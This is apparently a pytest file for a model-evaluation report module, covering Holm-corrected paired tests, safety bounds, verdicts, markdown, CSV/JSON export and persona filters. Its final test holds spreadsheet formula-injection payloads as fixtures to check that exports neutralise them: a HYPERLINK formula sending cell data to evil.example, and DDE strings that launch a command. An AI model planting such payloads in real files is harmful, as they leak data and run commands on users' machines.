"""The Report: persona-level aggregation, Holm over the family, verdicts, markdown, CSV/JSON, filters."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pytest
from scipy import stats as sps

from core.eval.report import (
    Settings,
    build_report,
    export_csv,
    export_json,
    filter_personas,
    render_markdown,
)
from core.eval.results import load_results
from tests.eval_view.fixtures import make_results


def _persona_means(results, model: str) -> dict[str, float]:
    return {pid: float(np.mean(v)) for pid, v in results.scores_by_persona(model).items()}


def test_tests_run_on_persona_means_and_holm_covers_all_three_pairs(results_dir: Path) -> None:
    results = load_results(results_dir)
    report = build_report(results)
    means = {m: _persona_means(results, m) for m in results.models}
    pids = sorted(means["baseline"])
    raw = {}
    for cand, ref in (("ft-a", "baseline"), ("ft-b", "baseline"), ("ft-b", "ft-a")):
        c = report.comparison(cand, ref)
        expected = sps.ttest_rel([means[cand][p] for p in pids], [means[ref][p] for p in pids])
        assert c.n == 9 and c.p == pytest.approx(expected.pvalue)   # 9 personas, not 27 conversations
        raw[(cand, ref)] = expected.pvalue
    # Holm by hand over the family of 3
    order = sorted(raw, key=raw.get)
    running, expected_adj = 0.0, {}
    for rank, key in enumerate(order):
        running = max(running, min(1.0, (3 - rank) * raw[key]))
        expected_adj[key] = running
    for (cand, ref), value in expected_adj.items():
        assert report.comparison(cand, ref).p_holm == pytest.approx(value)
    assert report.family.startswith("Holm over all 3 pairwise comparisons")


def test_verdicts_follow_the_guides_criteria(results_dir: Path) -> None:
    report = build_report(load_results(results_dir))
    verdicts = {v.candidate: v for v in report.verdicts}
    assert verdicts["ft-a"].status == "PASS" and not verdicts["ft-a"].provisional
    ft_b = {c.name: c for c in verdicts["ft-b"].criteria}
    assert verdicts["ft-b"].status == "FAIL"
    assert ft_b["improvement"].ok is False and ft_b["safety"].ok is False
    assert "1 persona(s) with a new violation" in ft_b["safety"].detail
    # a looser threshold flips the improvement criterion but the safety regression still fails it
    loose = build_report(load_results(results_dir), Settings(min_improvement=0.05))
    ft_b = {c.name: c for c in next(v for v in loose.verdicts if v.candidate == "ft-b").criteria}
    assert ft_b["improvement"].ok is True and ft_b["safety"].ok is False


def test_summary_numbers_and_safety_bound(results_dir: Path) -> None:
    results = load_results(results_dir)
    report = build_report(results)
    ft_b = report.model("ft-b")
    assert ft_b.n_personas == 9 and ft_b.n_conversations == 27
    assert ft_b.safety.events == 1 and ft_b.personas_with_violation == 1
    assert ft_b.safety.upper == pytest.approx(sps.binomtest(1, 27).proportion_ci(0.90, "exact").high)
    pm = list(_persona_means(results, "ft-b").values())
    assert ft_b.mean == pytest.approx(np.mean(pm)) and ft_b.sd == pytest.approx(np.std(pm, ddof=1))
    passed = sum(1 for r in results.conversations(model="ft-b") if r.assessment.passed)
    assert ft_b.pass_rate.successes == passed
    safety = next(s for s in report.safety if s.candidate == "ft-b" and s.reference == "baseline")
    assert (safety.new_violations, safety.fixed) == (1, 0) and safety.p == pytest.approx(1.0)


def test_partial_run_gives_a_provisional_verdict_and_insufficient_data(tmp_path: Path) -> None:
    skip = tuple((f"p{9000 + i}", "ft", k) for i in range(1, 6) for k in range(3))
    d = make_results(tmp_path / "partial", models=("baseline", "ft"), n_personas=6, status="running", skip=skip)
    report = build_report(load_results(d))
    (verdict,) = report.verdicts
    assert verdict.provisional and verdict.status == "INSUFFICIENT DATA"
    assert report.comparison("ft", "baseline").n == 1
    assert "1 paired persona" in next(c.detail for c in verdict.criteria if c.name == "significance")
    md = render_markdown(report)
    assert "**Incomplete run** (running: " in md and "INSUFFICIENT DATA" in md and "still running" in md


def test_criterion_breakdown(results_dir: Path) -> None:
    results = load_results(results_dir)
    report = build_report(results)
    rows = {r.criterion: r for r in report.criteria}
    assert list(rows) == ["empathy", "helpfulness", "safety"] and rows["safety"].safety
    assert rows["safety"].violations == {"baseline": 0, "ft-a": 0, "ft-b": 1}
    # by hand: the mean over personas of each persona's mean empathy score
    per_persona: dict[str, list[float]] = {}
    for r in results.conversations(model="ft-a"):
        per_persona.setdefault(r.persona_id, []).append(r.assessment.criteria[0].score)
    assert rows["empathy"].means["ft-a"] == pytest.approx(np.mean([np.mean(v) for v in per_persona.values()]))
    assert rows["empathy"].diffs["ft-a"] > 0.1
    table = list(csv.DictReader(io.StringIO(export_csv(report, "criteria"))))
    assert table[2]["criterion"] == "safety" and table[2]["violations_ft-b"] == "1"


def test_markdown_has_the_guides_sections(results_dir: Path) -> None:
    md = render_markdown(build_report(load_results(results_dir)))
    for heading in ("# Evaluation Report", "## Verdict", "## Per-model statistics", "## Pairwise comparisons",
                    "## Safety", "## Category breakdown", "## Criterion breakdown", "## Power and sample size",
                    "## Personas"):
        assert heading in md
    assert "| ft-a | **PASS** |" in md and "| ft-b | **FAIL** |" in md
    assert "| ft-a − baseline | 9 | +0.164 |" in md
    assert "| anxiety | 3 |" in md and "Holm over all 3 pairwise comparisons" in md
    assert "## Data problems" not in md


def test_csv_tables_and_json(results_dir: Path) -> None:
    results = load_results(results_dir)
    report = build_report(results)
    overview = list(csv.DictReader(io.StringIO(export_csv(report, "overview"))))
    assert [r["model"] for r in overview] == ["baseline", "ft-a", "ft-b"]
    assert float(overview[1]["mean"]) == pytest.approx(report.model("ft-a").mean)
    pairwise = list(csv.DictReader(io.StringIO(export_csv(report, "pairwise"))))
    assert len(pairwise) == 3 and float(pairwise[0]["p_holm"]) == pytest.approx(report.pairwise[0].p_holm)
    convs = list(csv.DictReader(io.StringIO(export_csv(report, "conversations", results))))
    assert len(convs) == 81 and "criterion_safety" in convs[0]
    cats = list(csv.DictReader(io.StringIO(export_csv(report, "categories"))))
    assert {r["category"] for r in cats} == {"anxiety", "grief", "work-stress"} and "diff_ft-a" in cats[0]
    with pytest.raises(ValueError, match="unknown table"):
        export_csv(report, "bogus")
    data = json.loads(export_json(report))
    assert data["verdicts"][0]["status"] == "PASS" and data["pairwise"][0]["candidate"] == "ft-a"
    assert "NaN" not in export_json(report)


def test_filter_and_sort_personas(results_dir: Path) -> None:
    report = build_report(load_results(results_dir))
    assert [p.persona_id for p in filter_personas(report, safety_only=True)] == ["p9001"]
    assert filter_personas(report, safety_only=True, model="ft-a") == []
    grief = filter_personas(report, category="grief")
    assert {p.category for p in grief} == {"grief"} and len(grief) == 3
    worst = filter_personas(report, model="ft-b", sort="delta")
    deltas = [p.diffs["ft-b"] for p in worst]
    assert deltas == sorted(deltas) and worst[0].persona_id == "p9001"
    best = filter_personas(report, model="ft-b", sort="-delta")
    assert [p.persona_id for p in best] == [p.persona_id for p in reversed(worst)]
    failed = filter_personas(report, failed_only=True, model="ft-a")
    assert failed and all(p.cells["ft-a"].passed < p.cells["ft-a"].n for p in failed)
    assert [p.persona_id for p in filter_personas(report, text="persona 4")] == ["p9004"]
    assert [p.persona_id for p in filter_personas(report, worse_only=True, model="ft-b")] == ["p9001"]
    assert filter_personas(report, worse_only=True, model="ft-a") == []
    assert filter_personas(report, errors_only=True) == []
    spread = filter_personas(report, spread_only=True)
    assert all(any(c.sd and c.sd > 0.15 for c in p.cells.values()) for p in spread)
    with pytest.raises(ValueError):
        filter_personas(report, sort="bogus")


def test_the_app_start_up_does_not_pay_for_scipy() -> None:
    import subprocess
    import sys

    code = ("import sys, core.eval.report, tui_tuner.screens.eval.screen, tui_tuner.commands.eval; "
            "print('scipy' in sys.modules)")
    probe = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert probe.returncode == 0, probe.stderr
    assert probe.stdout.strip() == "False"


def _write_run(directory: Path, rows: list[tuple[str, str, int, float]], *, k: int, status: str,
               n_personas: int = 3) -> Path:
    """A results directory from explicit (persona, model, conv_index, score) rows."""
    from core.eval.results import append_conversation, write_personas_json, write_run_json
    from tests.eval_view.fixtures import conversation, personas, run_dict

    people = {p["id"]: p for p in personas(n_personas)}
    write_run_json(directory, run_dict(["baseline", "ft"], k=k, status=status))
    write_personas_json(directory, list(people.values()))
    for pid, model, index, score in rows:
        append_conversation(directory, conversation(people[pid], model, index, score))
    return directory


def test_no_difference_with_zero_variance_fails_instead_of_insufficient_data(tmp_path: Path) -> None:
    # Every persona scores exactly the same under both models: Δ = 0.000, SD(Δ) = 0, the t-test is
    # undefined — but a finished run that shows no improvement at all is a FAIL, not "insufficient data".
    rows = [(f"p{9000 + i}", model, c, 0.5 + 0.1 * i) for i in range(3) for model in ("baseline", "ft")
            for c in range(2)]
    report = build_report(load_results(_write_run(tmp_path / "same", rows, k=2, status="finished")))
    (verdict,) = report.verdicts
    crit = {c.name: c for c in verdict.criteria}
    assert report.complete and not verdict.provisional
    assert verdict.status == "FAIL"
    assert crit["improvement"].ok is False and "Δ = +0.000" in crit["improvement"].detail
    assert crit["significance"].ok is False and "no difference" in crit["significance"].detail
    assert "**FAIL**" in render_markdown(report)


def test_a_constant_shortfall_fails_and_a_constant_gain_stays_undecided(tmp_path: Path) -> None:
    # Every persona 0.05 better: below the 0.10 threshold, so FAIL whatever the (undefined) test says.
    small = [(f"p{9000 + i}", m, 0, 0.5 + 0.1 * i + (0.05 if m == "ft" else 0)) for i in range(3)
             for m in ("baseline", "ft")]
    assert build_report(load_results(_write_run(tmp_path / "small", small, k=1,
                                                status="finished"))).verdicts[0].status == "FAIL"
    # Every persona 0.2 better: large enough, but with zero variance the t-test cannot say how sure.
    big = [(f"p{9000 + i}", m, 0, 0.5 + 0.1 * i + (0.2 if m == "ft" else 0)) for i in range(3)
           for m in ("baseline", "ft")]
    assert build_report(load_results(_write_run(tmp_path / "big", big, k=1,
                                                status="finished"))).verdicts[0].status == "INSUFFICIENT DATA"
    # One paired persona is still too little to fail on.
    one = [("p9000", "baseline", 0, 0.6), ("p9000", "ft", 0, 0.6)]
    assert build_report(load_results(_write_run(tmp_path / "one", one, k=1, status="finished",
                                                n_personas=1))).verdicts[0].status == "INSUFFICIENT DATA"


def test_interrupted_run_shows_what_was_done_not_the_plan(tmp_path: Path) -> None:
    from core.eval.report import overview_rows

    # Planned 2 personas × 2 conversations per model; interrupted after the baseline finished all four,
    # ft one conversation of each persona, and (third directory) ft one persona twice, the other once.
    rows = [(p, "baseline", c, 0.6) for p in ("p9000", "p9001") for c in range(2)]
    report = build_report(load_results(_write_run(
        tmp_path / "cut", [*rows, ("p9000", "ft", 0, 0.7), ("p9001", "ft", 0, 0.8)], k=2, status="interrupted",
        n_personas=2)))
    n = {r["model"]: r["n"] for r in overview_rows(report)}
    assert n == {"baseline": "2×2", "ft": "2×1 of 2×2"}
    assert not report.complete and report.verdicts[0].provisional
    md = render_markdown(report)
    assert "**Incomplete run** (interrupted: 6 of 8 conversations done)" in md
    assert "| ft | candidate | 2×1 of 2×2 |" in md
    assert "each persona's finished (up to 2) conversations are averaged" in md
    uneven = build_report(load_results(_write_run(
        tmp_path / "uneven", [*rows, ("p9000", "ft", 0, 0.7), ("p9000", "ft", 1, 0.7), ("p9001", "ft", 0, 0.8)],
        k=2, status="interrupted", n_personas=2)))
    assert {r["model"]: r["n"] for r in overview_rows(uneven)}["ft"] == "2×1–2 of 2×2"
    data = json.loads(export_json(uneven))
    ft = next(m for m in data["models"] if m["name"] == "ft")
    assert (ft["per_persona_min"], ft["per_persona_max"], data["planned_personas"]) == (1, 2, 2)


def test_csv_cells_cannot_start_a_formula(tmp_path: Path) -> None:
    from core.eval.report import csv_safe
    from core.eval.results import append_conversation, write_personas_json, write_run_json
    from tests.eval_view.fixtures import conversation, personas, run_dict

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
    people = personas(2)
    people[0]["name"] = hostile[0]
    people[1]["name"] = hostile[5]          # a bare carriage return must not end the row either
    people[1]["category"] = hostile[3]
    directory = tmp_path / "evil"
    write_run_json(directory, run_dict(["baseline", "ft"], k=1))
    write_personas_json(directory, people)
    for i, person in enumerate(people):
        for model in ("baseline", "ft"):
            record = conversation(person, model, 0, 0.5 + 0.1 * i + (0.1 if model == "ft" else 0))
            record["assessment"]["summary"] = hostile[(i * 2 + (model == "ft")) % len(hostile)]
            record["assessment"]["criteria"][0]["id"] = "=cmd"
            append_conversation(directory, record)
    results = load_results(directory)
    report = build_report(results)
    cells: list[str] = []
    for table in ("overview", "pairwise", "categories", "criteria", "personas", "conversations"):
        rows = list(csv.reader(io.StringIO(export_csv(report, table, results), newline="")))
        assert len({len(row) for row in rows}) == 1, table       # no row was split into two
        cells += [c for row in rows for c in row]
    personas_rows = list(csv.DictReader(io.StringIO(export_csv(report, "personas", results), newline="")))
    assert [r["name"] for r in personas_rows] == ["'" + hostile[0], "'\n=1+1"]
    texts = [c for c in cells if c]
    assert not [c for c in texts if c[0] in "=+@\t\r" or (c[0] == "-" and not _is_number(c))]
    assert "'" + hostile[0] in cells and "'" + hostile[3] in cells and "'=cmd" in cells  # kept, but inert
    assert "'-2+3" in cells
    assert any(c.startswith("-0.") or c.startswith("-1") for c in cells) or csv_safe(-0.5) == -0.5  # numbers stay
    assert csv_safe(-0.25) == -0.25 and csv_safe("-0.25") == "'-0.25" and csv_safe(None) == ""


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
